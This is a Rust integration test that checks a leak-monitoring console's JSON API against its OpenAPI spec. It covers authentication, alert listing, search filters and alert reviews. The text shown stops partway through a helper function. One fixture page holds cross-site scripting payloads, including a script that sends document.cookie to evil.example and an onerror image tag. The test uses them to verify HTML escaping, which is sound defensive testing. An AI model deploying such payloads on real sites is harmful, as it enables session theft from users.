//! The JSON API against its description, `console/openapi.json`, over real HTTP: other
//! systems are written from the spec, so the server must answer every operation with a
//! status the spec documents and a body its schema accepts — and the spec must document
//! every field the server sends (its object schemas are read as closed) and every route
//! under `/api` it serves, no more and no fewer.
//!
//! The console serves a data dir with a small index (pages on onion and clearnet hosts, one
//! of them with `<script>` in its title and text, and image documents) and an alert log
//! with image, scene and text alerts. Every call goes through [`Checker::call`], which checks
//! the security headers, looks the operation up in the spec, and validates status, media
//! type and body; a mismatch is collected rather than raised at once, so one run lists them
//! all. At the end, every (operation, documented status) pair must have been seen.

use std::collections::{BTreeMap, BTreeSet};
use std::net::SocketAddr;
use std::path::Path;
use std::sync::Arc;

use http_body_util::{BodyExt, Full};
use hyper::body::Bytes;
use leakwatch_console as console;
use schema::{FetchedPage, ImageHash, ImageVerdict};
use serde_json::{json, Value};

/// The spec as the server embeds it, and as the tests read it.
const SPEC: &str = include_str!("../openapi.json");
/// The API's routes, as the server declares them.
const API_SOURCE: &str = include_str!("../src/web/api.rs");

const USER: &str = "ana";
const PASSWORD: &str = "correct horse battery staple";

const P1: &str = "http://leakvaultq7x2.onion/t/1";
const P2: &str = "http://leakvaultq7x2.onion/t/2";
const P3: &str = "https://paste.example/raw/k3j2";
const P4: &str = "http://evilmk5r.onion/x";
const VAULT: &str = "leakvaultq7x2.onion";
const HOSTILE_TITLE: &str = "<script>alert('title')</script> Dump";

/// Methods an operation can have in OpenAPI.
const METHODS: [&str; 5] = ["get", "post", "put", "delete", "patch"];

// ---------------------------------------------------------------------------------------
// The spec
// ---------------------------------------------------------------------------------------

struct Spec {
    doc: Value,
    /// `components` with every object schema that lists `properties` closed
    /// (`additionalProperties: false` unless the spec says otherwise).
    closed_components: Value,
}

impl Spec {
    fn load() -> Spec {
        let doc: Value = serde_json::from_str(SPEC).expect("openapi.json is JSON");
        let mut closed_components = doc["components"].clone();
        close_objects(&mut closed_components);
        Spec {
            doc,
            closed_components,
        }
    }

    /// Every `(method, path template)` the spec documents.
    fn operations(&self) -> Vec<(String, String)> {
        let mut out = Vec::new();
        for (path, item) in self.doc["paths"].as_object().expect("paths") {
            for m in METHODS {
                if item.get(m).is_some() {
                    out.push((m.to_string(), path.clone()));
                }
            }
        }
        out
    }

    /// The path template of the spec that `path` (no query) fills in, if any.
    fn template_of(&self, path: &str) -> Option<String> {
        let segs: Vec<&str> = path.split('/').collect();
        self.doc["paths"]
            .as_object()?
            .keys()
            .find(|t| {
                let tsegs: Vec<&str> = t.split('/').collect();
                tsegs.len() == segs.len()
                    && tsegs.iter().zip(&segs).all(|(t, s)| {
                        (t.starts_with('{') && t.ends_with('}') && !s.is_empty()) || t == s
                    })
            })
            .cloned()
    }

    fn operation(&self, method: &str, template: &str) -> Option<&Value> {
        self.doc["paths"][template].get(method.to_ascii_lowercase())
    }

    /// Follows `$ref`s within the spec (`#/…` only).
    fn resolve<'a>(&'a self, mut v: &'a Value) -> &'a Value {
        while let Some(r) = v.get("$ref").and_then(Value::as_str) {
            let pointer = r.strip_prefix('#').expect("local $ref");
            v = self
                .doc
                .pointer(pointer)
                .unwrap_or_else(|| panic!("$ref {r} resolves to nothing in openapi.json"));
        }
        v
    }

    /// The documented response of `op` for `status`: its media types and their schemas.
    fn response<'a>(&'a self, op: &'a Value, status: u16) -> Option<&'a Value> {
        op["responses"]
            .get(status.to_string())
            .map(|r| self.resolve(r))
    }

    /// What `instance` breaks of `schema` (a schema from the spec, `$ref`s into its
    /// components allowed), validated as JSON Schema 2020-12 with closed objects.
    fn violations(&self, schema: &Value, instance: &Value) -> Vec<String> {
        let mut schema = schema.clone();
        close_objects(&mut schema);
        let root = json!({
            "$schema": "https://json-schema.org/draft/2020-12/schema",
            "components": self.closed_components,
            "allOf": [schema],
        });
        let validator = jsonschema::options()
            .with_draft(jsonschema::Draft::Draft202012)
            .build(&root)
            .unwrap_or_else(|e| panic!("a schema in openapi.json does not compile: {e}"));
        validator
            .iter_errors(instance)
            .map(|e| format!("{} at {}", e, e.instance_path()))
            .collect()
    }

    /// The schema of a named component.
    fn component(name: &str) -> Value {
        json!({ "$ref": format!("#/components/schemas/{name}") })
    }

    /// The parameters `op` declares, by name.
    fn parameters(&self, op: &Value) -> BTreeMap<String, Value> {
        op["parameters"]
            .as_array()
            .map(|ps| {
                ps.iter()
                    .map(|p| self.resolve(p))
                    .map(|p| (p["name"].as_str().unwrap_or("").to_string(), p.clone()))
                    .collect()
            })
            .unwrap_or_default()
    }
}

/// Adds `additionalProperties: false` to every schema object listing `properties` without
/// saying whether others are allowed: a field the server sends must be documented.
fn close_objects(v: &mut Value) {
    match v {
        Value::Object(m) => {
            if m.contains_key("properties") && !m.contains_key("additionalProperties") {
                m.insert("additionalProperties".into(), Value::Bool(false));
            }
            for (_, child) in m.iter_mut() {
                close_objects(child);
            }
        }
        Value::Array(a) => a.iter_mut().for_each(close_objects),
        _ => {}
    }
}

// ---------------------------------------------------------------------------------------
// HTTP
// ---------------------------------------------------------------------------------------

struct Reply {
    status: u16,
    headers: hyper::HeaderMap,
    body: Bytes,
}

impl Reply {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).and_then(|v| v.to_str().ok())
    }
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// One HTTP/1.1 request on a new connection.
async fn send(
    addr: SocketAddr,
    method: &str,
    target: &str,
    headers: &[(&str, &str)],
    body: Option<(&str, &[u8])>,
) -> Reply {
    let stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let (mut sender, conn) =
        hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(stream))
            .await
            .expect("handshake");
    tokio::spawn(conn);
    let mut req = hyper::Request::builder()
        .method(method)
        .uri(target)
        .header(hyper::header::HOST, addr.to_string());
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let bytes = match body {
        Some((content_type, b)) => {
            req = req.header(hyper::header::CONTENT_TYPE, content_type);
            Bytes::copy_from_slice(b)
        }
        None => Bytes::new(),
    };
    let res = sender
        .send_request(req.body(Full::new(bytes)).expect("request"))
        .await
        .unwrap_or_else(|e| panic!("{method} {target}: {e}"));
    let status = res.status().as_u16();
    let headers = res.headers().clone();
    let body = res.into_body().collect().await.expect("body").to_bytes();
    Reply {
        status,
        headers,
        body,
    }
}

/// `path?k=v&…`, form-encoded.
fn with_query(path: &str, params: &[(&str, &str)]) -> String {
    if params.is_empty() {
        return path.to_string();
    }
    let mut s = url::form_urlencoded::Serializer::new(String::new());
    for (k, v) in params {
        s.append_pair(k, v);
    }
    format!("{path}?{}", s.finish())
}

// ---------------------------------------------------------------------------------------
// The console under test
// ---------------------------------------------------------------------------------------

struct Fixture {
    addr: SocketAddr,
    token: String,
    /// Alert ids: image cam2-0042 on P1 (its image indexed), image cam5-0007 on P2 (its
    /// image not indexed), scene cam2 on P2, text plate-1 on P3.
    image: String,
    image_unindexed: String,
    scene: String,
    text: String,
    /// SHA-256 of the indexed image of `image`.
    image_sha256: String,
    _stop: tokio::sync::oneshot::Sender<()>,
}

fn page(url: &str, host: &str, title: &str, text: &str, fetched_at: &str) -> FetchedPage {
    FetchedPage {
        url: url.into(),
        host: host.into(),
        title: title.into(),
        text: text.into(),
        sha256: schema::sha256_hex(text.as_bytes()),
        fetched_at: fetched_at.into(),
        depth: 1,
        links: vec![],
        images: vec![],
        listed_at: None,
        exchange: None,
        body: vec![],
    }
}

fn image_doc(url: &str, page_url: &str, sha256: &str, matched: &[&str]) -> ImageVerdict {
    ImageVerdict {
        url: url.into(),
        page_url: Some(page_url.into()),
        sha256: sha256.into(),
        fetched_at: "2026-03-02T09:59:00Z".into(),
        width: 640,
        height: 480,
        hashes: vec![ImageHash {
            algorithm: "pdq".into(),
            hex: "ab".repeat(32),
        }],
        matched: matched.iter().map(|s| s.to_string()).collect(),
    }
}

fn write_index(dir: &Path, image_sha256: &str) {
    let idx = indexer::PageIndex::open(dir).expect("index");
    let mut w = idx.writer(20_000_000).expect("writer");
    let pages = [
        page(
            P1,
            VAULT,
            "Border camera dump",
            "full archive of the border camera: quartz lantern export with every plate",
            "2026-01-10T12:00:00Z",
        ),
        page(
            P2,
            VAULT,
            "Second batch",
            "more frames from the same camera, lantern night shots",
            "2026-02-15T08:30:00Z",
        ),
        page(
            P3,
            "paste.example",
            "untitled paste",
            "plate list, see the thread",
            "2026-03-01T00:00:00Z",
        ),
        page(
            P4,
            "evilmk5r.onion",
            HOSTILE_TITLE,
            "<script>fetch('http://evil.example/'+document.cookie)</script> quartz \
             <img src=x onerror=alert(1)> \"quoted\" & more",
            "2026-02-01T00:00:00Z",
        ),
    ];
    for p in &pages {
        idx.upsert_page(&w, p).expect("page");
    }
    let a = image_doc(
        "http://leakvaultq7x2.onion/img/a.jpg",
        P1,
        image_sha256,
        &["cam2-0042"],
    );
    let c = image_doc(
        "http://leakvaultq7x2.onion/img/c.jpg",
        P2,
        &schema::sha256_hex(b"scene frame"),
        &[],
    );
    idx.upsert_image(&w, &a).expect("image");
    idx.upsert_image(&w, &c).expect("image");
    w.commit().expect("commit");
}

fn write_alerts(dir: &Path) -> [schema::Alert; 4] {
    let at = |mut a: schema::Alert, t: &str| {
        a.detected_at = t.to_string();
        a
    };
    let image = at(
        alerts::image(
            "cam2-0042",
            "http://leakvaultq7x2.onion/img/a.jpg",
            Some(P1),
            4,
            "pdq",
        ),
        "2026-03-02T10:00:00Z",
    );
    let unindexed = at(
        alerts::image(
            "cam5-0007",
            "http://leakvaultq7x2.onion/img/b.jpg",
            Some(P2),
            9,
            "pdq",
        ),
        "2026-03-01T10:00:00Z",
    );
    let scene = at(
        alerts::scene(
            "cam2",
            "http://leakvaultq7x2.onion/img/c.jpg",
            Some(P2),
            21,
            &["cam2-0042".to_string()],
        ),
        "2026-02-25T10:00:00Z",
    );
    let text = at(
        alerts::text(
            "plate-1",
            P3,
            schema::IdentifierSighting {
                kind: "plate".into(),
                masked: "KX*****21".into(),
                field: "text".into(),
                offset: 6,
            },
        ),
        "2026-02-20T10:00:00Z",
    );
    let mut store = alerts::AlertStore::open(dir).expect("alert store");
    for a in [&image, &unindexed, &scene, &text] {
        assert!(store.insert(a).expect("insert"));
    }
    [image, unindexed, scene, text]
}

async fn start(dir: &Path) -> Fixture {
    let image_sha256 = schema::sha256_hex(b"the stolen photo as posted");
    write_index(dir, &image_sha256);
    let [image, unindexed, scene, text] = write_alerts(dir);
    let store = console::store::open(None, dir).await.expect("state");
    console::add_user(&store, USER, console::UserRole::Analyst, PASSWORD.into())
        .await
        .expect("user");
    let token = console::create_token(&store, USER, "api test")
        .await
        .expect("token");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let options = console::ConsoleOptions {
        data_dir: dir.to_path_buf(),
        state_url: None,
        paste_hosts: vec!["paste.example".into()],
        inventory: Arc::new(console::NoInventory),
    };
    tokio::spawn(async move {
        console::serve(listener, options, async {
            let _ = stopped.await;
        })
        .await
        .expect("console");
    });
    Fixture {
        addr,
        token,
        image: image.id,
        image_unindexed: unindexed.id,
        scene: scene.id,
        text: text.id,
        image_sha256,
        _stop: stop,
    }
}

// ---------------------------------------------------------------------------------------
// The checker
// ---------------------------------------------------------------------------------------

/// Query parameters, in order.
type Query<'a> = &'a [(&'a str, &'a str)];

/// One request to make and the status it must get.
struct Call<'a> {
    method: &'a str,
    path: &'a str,
    query: Query<'a>,
    /// `None`: the fixture's token; `Some(None)`: no Authorization header; `Some(Some(v))`:
    /// that header value.
    auth: Option<Option<&'a str>>,
    /// Content type and bytes.
    body: Option<(&'a str, &'a [u8])>,
    expect: u16,
}

impl<'a> Call<'a> {
    fn get(path: &'a str, query: Query<'a>, expect: u16) -> Call<'a> {
        Call {
            method: "GET",
            path,
            query,
            auth: None,
            body: None,
            expect,
        }
    }
    fn post_json(path: &'a str, body: &'a [u8], expect: u16) -> Call<'a> {
        Call {
            method: "POST",
            path,
            query: &[],
            auth: None,
            body: Some(("application/json", body)),
            expect,
        }
    }
    fn auth(mut self, header: Option<&'a str>) -> Call<'a> {
        self.auth = Some(header);
        self
    }
}

struct Checker {
    spec: Spec,
    addr: SocketAddr,
    bearer: String,
    problems: Vec<String>,
    /// (method, path template, status) of every documented answer seen.
    seen: BTreeSet<(String, String, u16)>,
}

impl Checker {
    fn new(f: &Fixture) -> Checker {
        Checker {
            spec: Spec::load(),
            addr: f.addr,
            bearer: format!("Bearer {}", f.token),
            problems: Vec::new(),
            seen: BTreeSet::new(),
        }
    }

    fn problem(&mut self, what: String) {
        self.problems.push(what);
    }

    /// Makes the call and checks the answer against the spec; returns the body as JSON
    /// (`Null` if it is not JSON).
    async fn call(&mut self, c: Call<'_>) -> Value {
        let target = with_query(c.path, c.query);
        let auth = match c.auth {
            None => Some(self.bearer.clone()),
            Some(h) => h.map(str::to_string),
        };
        let mut headers = Vec::new();
        if let Some(a) = &auth {
            headers.push(("authorization", a.as_str()));
        }
        let r = send(self.addr, c.method, &target, &headers, c.body).await;
        let label = format!("{} {}", c.method, target);
        self.check_headers(&label, &r);
        if r.status != c.expect {
            self.problem(format!(
                "{label}: expected {}, got {}: {}",
                c.expect,
                r.status,
                r.text()
            ));
        }
        let Some(template) = self.spec.template_of(c.path) else {
            self.problem(format!("{label}: the spec has no path for {}", c.path));
            return r.json();
        };
        let Some(op) = self.spec.operation(c.method, &template).cloned() else {
            self.problem(format!(
                "{label}: the spec has no {} operation on {template}",
                c.method
            ));
            return r.json();
        };
        self.check_parameters(&label, &op, c.query, r.status < 300);
        let Some(response) = self.spec.response(&op, r.status).cloned() else {
            self.problem(format!(
                "{label}: status {} is not documented for {} {template} (documented: {}); \
                 body: {}",
                r.status,
                c.method,
                documented_statuses(&op),
                r.text()
            ));
            return r.json();
        };
        self.seen
            .insert((c.method.to_string(), template.clone(), r.status));
        if r.status == 401 && r.header("www-authenticate") != Some("Bearer") {
            self.problem(format!(
                "{label}: a 401 must say `WWW-Authenticate: Bearer` (the spec's bearer \
                 scheme), got {:?}",
                r.header("www-authenticate")
            ));
        }
        self.check_body(&label, &response, &r);
        r.json()
    }

    fn check_headers(&mut self, label: &str, r: &Reply) {
        match r.header("content-security-policy") {
            Some(csp) if csp == console::web::CSP && csp.contains("script-src 'none'") => {}
            other => self.problem(format!(
                "{label}: content-security-policy is {other:?}, not the console's policy"
            )),
        }
        if r.header("cache-control") != Some("no-store") {
            self.problem(format!(
                "{label}: cache-control is {:?}, not no-store",
                r.header("cache-control")
            ));
        }
    }

    /// Every query parameter sent is one the operation declares; in a request that
    /// succeeded, its value is one the declared schema accepts.
    fn check_parameters(&mut self, label: &str, op: &Value, query: &[(&str, &str)], ok: bool) {
        let declared = self.spec.parameters(op);
        for (k, v) in query {
            let Some(p) = declared.get(*k) else {
                self.problem(format!("{label}: parameter {k:?} is not in the spec"));
                continue;
            };
            if !ok {
                continue;
            }
            let schema = &p["schema"];
            let value = match schema["type"].as_str() {
                Some("integer") => v.parse::<i64>().map(Value::from).unwrap_or(json!(v)),
                _ => json!(v),
            };
            let errs = self.spec.violations(schema, &value);
            if !errs.is_empty() {
                self.problem(format!(
                    "{label}: the server accepted {k}={v:?}, which the spec's schema for \
                     {k} refuses: {errs:?}"
                ));
            }
        }
    }

    fn check_body(&mut self, label: &str, response: &Value, r: &Reply) {
        let Some(content) = response["content"].as_object() else {
            if !r.body.is_empty() {
                self.problem(format!(
                    "{label}: the spec documents no body, got {}",
                    r.text()
                ));
            }
            return;
        };
        let media = r
            .header("content-type")
            .unwrap_or("")
            .split(';')
            .next()
            .unwrap_or("")
            .trim()
            .to_string();
        let Some(documented) = content.get(&media) else {
            self.problem(format!(
                "{label} ({}): content-type {media:?} is not documented ({:?}); body: {}",
                r.status,
                content.keys().collect::<Vec<_>>(),
                r.text()
            ));
            return;
        };
        let body: Value = match serde_json::from_slice(&r.body) {
            Ok(v) => v,
            Err(e) => {
                self.problem(format!("{label}: the body is not JSON ({e}): {}", r.text()));
                return;
            }
        };
        let errs = self.spec.violations(&documented["schema"], &body);
        if !errs.is_empty() {
            self.problem(format!(
                "{label} ({}): the body breaks the spec's schema: {errs:#?}\nbody: {body}",
                r.status
            ));
        }
    }

    /// Every status the spec documents for every operation was seen.
    fn check_coverage(&mut self) {
        for (method, path) in self.spec.operations() {
            let op = self.spec.doc["paths"][&path][&method].clone();
            for status in op["responses"].as_object().expect("responses").keys() {
                let s: u16 = status.parse().expect("a numeric status");
                let key = (method.to_ascii_uppercase(), path.clone(), s);
                if !self.seen.contains(&key) {
                    self.problem(format!(
                        "{} {path} {s}: documented but never answered in this test",
                        key.0
                    ));
                }
            }
        }
    }

    fn finish(mut self) {
        self.check_coverage();
        assert!(
            self.problems.is_empty(),
            "the API does not answer as console/openapi.json says ({} problems):\n- {}",
            self.problems.len(),
            self.problems.join("\n- ")
        );
    }
}

fn documented_statuses(op: &Value) -> String {
    op["responses"]
        .as_object()
        .map(|r| r.keys().cloned().collect::<Vec<_>>().join(", "))
        .unwrap_or_default()
}

fn urls(page: &Value) -> Vec<String> {
    page["hits"]
        .as_array()
        .map(|h| {
            h.iter()
                .map(|h| h["url"].as_str().unwrap_or("").to_string())
                .collect()
        })
        .unwrap_or_default()
}

fn sorted(mut v: Vec<String>) -> Vec<String> {
    v.sort();
    v
}

fn ids(list: &Value) -> Vec<String> {
    list["alerts"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|a| a["id"].as_str().unwrap_or("").to_string())
                .collect()
        })
        .unwrap_or_default()
}

fn strs(v: &[&str]) -> Vec<String> {
    v.iter().map(|s| s.to_string()).collect()
}

/// Records a failed expectation about what an answer holds.
macro_rules! expect_eq {
    ($c:expr, $what:expr, $got:expr, $want:expr) => {{
        let (got, want) = ($got, $want);
        if got != want {
            $c.problem(format!("{}: got {:?}, expected {:?}", $what, got, want));
        }
    }};
}

// ---------------------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_operation_answers_as_the_spec_says() {
    let dir = tempfile::tempdir().unwrap();
    let f = start(dir.path()).await;
    let mut c = Checker::new(&f);
    let alert_path = |id: &str| format!("/api/alerts/{id}");
    let review_path = |id: &str| format!("/api/alerts/{id}/review");

    // 401: every operation, without a token, with a wrong one, with another scheme.
    let review_body = br#"{"state":"dismissed"}"#;
    let image_alert = alert_path(&f.image);
    let image_review = review_path(&f.image);
    for auth in [
        None,
        Some("Bearer not-a-token"),
        Some("Bearer "),
        Some("Basic YW5hOnNlY3JldA=="),
    ] {
        for (method, path) in c.spec.operations() {
            let concrete = path.replace("{id}", &f.image);
            let call = if method == "post" {
                Call::post_json(&concrete, review_body, 401)
            } else {
                Call::get(&concrete, &[], 401)
            };
            c.call(call.auth(auth)).await;
        }
    }

    // Alerts: the list reads the alert log; filters, order and pages.
    let all = c.call(Call::get("/api/alerts", &[], 200)).await;
    let newest_first = strs(&[&f.image, &f.image_unindexed, &f.scene, &f.text]);
    expect_eq!(
        c,
        "all alerts, newest first",
        ids(&all),
        newest_first.clone()
    );
    expect_eq!(c, "alert total", all["total"].as_i64(), Some(4));
    expect_eq!(
        c,
        "a refused review (401) changed nothing",
        all["alerts"][0]["state"].as_str(),
        Some("new")
    );
    let cases: [(Query, Vec<String>, i64); 6] = [
        (&[("state", "new")], newest_first.clone(), 4),
        (
            &[("kind", "image")],
            strs(&[&f.image, &f.image_unindexed]),
            2,
        ),
        (&[("label", "cam2-0042")], strs(&[&f.image]), 1),
        (
            &[("site", VAULT)],
            strs(&[&f.image, &f.image_unindexed, &f.scene]),
            3,
        ),
        (
            &[("kind", "text"), ("site", "paste.example")],
            strs(&[&f.text]),
            1,
        ),
        (
            &[("offset", "1"), ("limit", "2")],
            strs(&[&f.image_unindexed, &f.scene]),
            4,
        ),
    ];
    for (query, want, total) in cases {
        let got = c.call(Call::get("/api/alerts", query, 200)).await;
        expect_eq!(c, format!("alerts {query:?}"), ids(&got), want);
        expect_eq!(
            c,
            format!("alerts {query:?} total"),
            got["total"].as_i64(),
            Some(total)
        );
    }
    let paged = c
        .call(Call::get(
            "/api/alerts",
            &[("offset", "3"), ("limit", "2")],
            200,
        ))
        .await;
    expect_eq!(
        c,
        "alerts offset 3: offset",
        paged["offset"].as_i64(),
        Some(3)
    );
    // A malformed number: the spec documents no 400 here, so whatever the server answers
    // must be one of 200/401 (or the spec must document it).
    c.call(Call::get("/api/alerts", &[("limit", "many")], 400))
        .await;

    // One alert; an unknown id.
    for (id, kind) in [(&f.image, "image"), (&f.scene, "scene"), (&f.text, "text")] {
        let a = c.call(Call::get(&alert_path(id), &[], 200)).await;
        expect_eq!(
            c,
            format!("alert {id} kind"),
            a["kind"].as_str(),
            Some(kind)
        );
        expect_eq!(
            c,
            format!("alert {id} state"),
            a["state"].as_str(),
            Some("new")
        );
    }
    let scene = c.call(Call::get(&alert_path(&f.scene), &[], 200)).await;
    expect_eq!(
        c,
        "the scene alert as raised",
        scene["alert"]["context"].clone(),
        json!(["cam2-0042"])
    );
    expect_eq!(
        c,
        "the scene alert's site",
        scene["site"].as_str(),
        Some(VAULT)
    );
    c.call(Call::get(
        &alert_path("0123456789abcdef0123456789abcdef"),
        &[],
        404,
    ))
    .await;

    // Coverage before any review.
    let cov = c.call(Call::get("/api/coverage", &[], 200)).await;
    expect_eq!(
        c,
        "coverage photos/identifiers/scenes/sightings",
        (
            cov["photos"].as_i64(),
            cov["identifiers"].as_i64(),
            cov["scenes"].as_i64(),
            cov["sightings"].as_i64()
        ),
        (Some(2), Some(1), Some(1), Some(4))
    );
    expect_eq!(
        c,
        "coverage first_seen",
        cov["first_seen"].as_str(),
        Some("2026-02-20T10:00:00Z")
    );
    expect_eq!(
        c,
        "coverage sites",
        cov["sites"].clone(),
        json!([[VAULT, 3], ["paste.example", 1]])
    );

    // Search: query, phrase, filters, order, pages.
    let quartz = c
        .call(Call::get("/api/search", &[("q", "quartz")], 200))
        .await;
    expect_eq!(
        c,
        "q=quartz",
        sorted(urls(&quartz)),
        sorted(strs(&[P1, P4]))
    );
    expect_eq!(c, "q=quartz total", quartz["total"].as_i64(), Some(2));
    let hostile = quartz["hits"]
        .as_array()
        .and_then(|h| h.iter().find(|h| h["url"] == P4))
        .cloned()
        .unwrap_or(Value::Null);
    expect_eq!(
        c,
        "the hostile page's title, as data",
        hostile["title"].as_str(),
        Some(HOSTILE_TITLE)
    );
    let html = hostile["snippet_html"].as_str().unwrap_or("<missing>");
    let markup_left = html.replace("<b>", "").replace("</b>", "");
    if markup_left.contains('<') || !html.contains("&lt;script&gt;") {
        c.problem(format!(
            "snippet_html must escape the page's markup (only <b> highlights): {html}"
        ));
    }
    if !hostile["snippet"]
        .as_str()
        .unwrap_or("")
        .contains("<script>")
    {
        c.problem(format!("snippet is the plain text, unescaped: {hostile}"));
    }
    let phrase = c
        .call(Call::get(
            "/api/search",
            &[("q", "\"quartz lantern\"")],
            200,
        ))
        .await;
    expect_eq!(c, "phrase", urls(&phrase), strs(&[P1]));
    let by_date = [("q", "*"), ("sort", "date")];
    let cases: [(Query, Vec<String>); 10] = [
        (
            &[("q", "lantern"), ("site", VAULT)],
            sorted(strs(&[P1, P2])),
        ),
        (&[("site", "evilmk5r.onion")], strs(&[P4])),
        (&[("source", "onion")], sorted(strs(&[P1, P2, P4]))),
        (&[("source", "clearnet")], strs(&[P3])),
        (&[("source", "paste"), ("q", "plate")], strs(&[P3])),
        (
            &[("from", "2026-02-01"), ("to", "2026-02-15")],
            sorted(strs(&[P2, P4])),
        ),
        (&[("from", "2026-02-01T00:00:01Z")], sorted(strs(&[P2, P3]))),
        (&[("to", "2026-01-31")], strs(&[P1])),
        (&[("has_alert", "1")], sorted(strs(&[P1, P2, P3]))),
        (
            &[("has_alert", "true"), ("source", "onion")],
            sorted(strs(&[P1, P2])),
        ),
    ];
    for (query, want) in cases {
        let got = c.call(Call::get("/api/search", query, 200)).await;
        expect_eq!(c, format!("search {query:?}"), sorted(urls(&got)), want);
    }
    let dated = c.call(Call::get("/api/search", &by_date, 200)).await;
    expect_eq!(c, "sort=date", urls(&dated), strs(&[P3, P2, P4, P1]));
    let dated_query = c
        .call(Call::get(
            "/api/search",
            &[("q", "quartz OR lantern"), ("sort", "date")],
            200,
        ))
        .await;
    expect_eq!(c, "q + sort=date", urls(&dated_query), strs(&[P2, P4, P1]));
    let mut seen_pages = Vec::new();
    for offset in ["0", "2", "4"] {
        let q = [
            ("q", "*"),
            ("sort", "date"),
            ("offset", offset),
            ("limit", "2"),
        ];
        let page = c.call(Call::get("/api/search", &q, 200)).await;
        expect_eq!(
            c,
            format!("offset {offset}: total"),
            page["total"].as_i64(),
            Some(4)
        );
        expect_eq!(
            c,
            format!("offset {offset}: offset"),
            page["offset"].as_i64(),
            offset.parse::<i64>().ok()
        );
        seen_pages.extend(urls(&page));
    }
    expect_eq!(
        c,
        "pages of 2, in date order",
        seen_pages,
        strs(&[P3, P2, P4, P1])
    );

    // Search: 400s.
    for query in [
        &[("q", "title:(")][..],
        &[("q", "quartz"), ("from", "yesterday")],
        &[("to", "2026-13-01")],
        &[("from", "2026-02-30")],
        &[("source", "tor")],
        &[("offset", "-1")],
        &[("limit", "lots")],
    ] {
        c.call(Call::get("/api/search", query, 400)).await;
    }

    // Reviews: a state with a note; a negative on an indexed image.
    let note = "same camera, new angle <b>not markup</b>";
    let body = json!({ "state": "confirmed", "note": note }).to_string();
    check_request_body(&mut c, &body, true);
    let a = c
        .call(Call::post_json(
            &review_path(&f.scene),
            body.as_bytes(),
            200,
        ))
        .await;
    expect_eq!(
        c,
        "review confirmed: state, note, reviewer",
        (
            a["state"].as_str(),
            a["note"].as_str(),
            a["reviewed_by"].as_str()
        ),
        (Some("confirmed"), Some(note), Some(USER))
    );
    if a["reviewed_at"].as_str().is_none() {
        c.problem(format!("a reviewed alert has reviewed_at: {a}"));
    }
    let negatives = dir.path().join(alerts::negatives::NEGATIVES_FILE);
    let body = json!({ "state": "new", "negative": true, "note": "a look-alike" }).to_string();
    check_request_body(&mut c, &body, true);
    let a = c
        .call(Call::post_json(&image_review, body.as_bytes(), 200))
        .await;
    expect_eq!(
        c,
        "negative sets false_positive",
        a["state"].as_str(),
        Some("false_positive")
    );
    expect_eq!(
        c,
        "negatives.txt after a negative review",
        std::fs::read_to_string(&negatives).ok(),
        Some(format!("{}\n", f.image_sha256))
    );
    let a = c.call(Call::get(&image_alert, &[], 200)).await;
    expect_eq!(
        c,
        "the reviewed alert, read back",
        a["state"].as_str(),
        Some("false_positive")
    );

    // Reviews: 400s. The first four are bodies the spec's Review schema refuses too.
    let long_note = "n".repeat(2001);
    let unindexed_review = review_path(&f.image_unindexed);
    let refused_by_schema = [
        json!({ "state": "escalated" }).to_string(),
        json!({ "state": "confirmed", "severity": "high" }).to_string(),
        json!({ "note": "no state" }).to_string(),
        json!({ "state": "confirmed", "note": long_note }).to_string(),
        json!({ "state": "confirmed", "negative": "yes" }).to_string(),
    ];
    for body in &refused_by_schema {
        check_request_body(&mut c, body, false);
        c.call(Call::post_json(&unindexed_review, body.as_bytes(), 400))
            .await;
    }
    for (content_type, body) in [
        ("application/json", &b"state=confirmed"[..]),
        ("application/json", b""),
        ("application/json", b"{\"state\":"),
        ("application/x-www-form-urlencoded", b"state=confirmed"),
    ] {
        let mut call = Call::post_json(&unindexed_review, body, 400);
        call.body = Some((content_type, body));
        c.call(call).await;
    }
    // Valid bodies, refused for what they ask: no image for a text alert, an image not in
    // the index yet.
    let negative = json!({ "state": "false_positive", "negative": true }).to_string();
    check_request_body(&mut c, &negative, true);
    c.call(Call::post_json(
        &review_path(&f.text),
        negative.as_bytes(),
        400,
    ))
    .await;
    c.call(Call::post_json(&unindexed_review, negative.as_bytes(), 400))
        .await;
    let a = c
        .call(Call::get(
            &unindexed_review.replace("/review", ""),
            &[],
            200,
        ))
        .await;
    expect_eq!(
        c,
        "refused reviews changed nothing",
        a["state"].as_str(),
        Some("new")
    );
    expect_eq!(
        c,
        "refused negatives left the list alone",
        std::fs::read_to_string(&negatives).ok(),
        Some(format!("{}\n", f.image_sha256))
    );

    // Reviews: 404s.
    let unknown = review_path("0123456789abcdef0123456789abcdef");
    c.call(Call::post_json(&unknown, br#"{"state":"dismissed"}"#, 404))
        .await;
    c.call(Call::post_json(&unknown, negative.as_bytes(), 404))
        .await;

    // After the reviews: coverage and the has-alert filter leave the false positive out.
    let cov = c.call(Call::get("/api/coverage", &[], 200)).await;
    expect_eq!(
        c,
        "coverage after a false positive: photos/scenes/sightings",
        (
            cov["photos"].as_i64(),
            cov["scenes"].as_i64(),
            cov["sightings"].as_i64()
        ),
        (Some(1), Some(1), Some(3))
    );
    let alerted = c
        .call(Call::get("/api/search", &[("has_alert", "1")], 200))
        .await;
    expect_eq!(
        c,
        "has_alert=1 after a false positive",
        sorted(urls(&alerted)),
        sorted(strs(&[P2, P3]))
    );
    let fp = c
        .call(Call::get(
            "/api/alerts",
            &[("state", "false_positive")],
            200,
        ))
        .await;
    expect_eq!(c, "state=false_positive", ids(&fp), strs(&[&f.image]));

    c.finish();
}

/// Whether the spec's Review schema accepts `body` as the test means it to.
fn check_request_body(c: &mut Checker, body: &str, valid: bool) {
    let op = c
        .spec
        .operation("post", "/api/alerts/{id}/review")
        .cloned()
        .expect("the review operation");
    let schema = op["requestBody"]["content"]["application/json"]["schema"].clone();
    let value: Value = serde_json::from_str(body).expect("a JSON body");
    let errs = c.spec.violations(&schema, &value);
    if errs.is_empty() != valid {
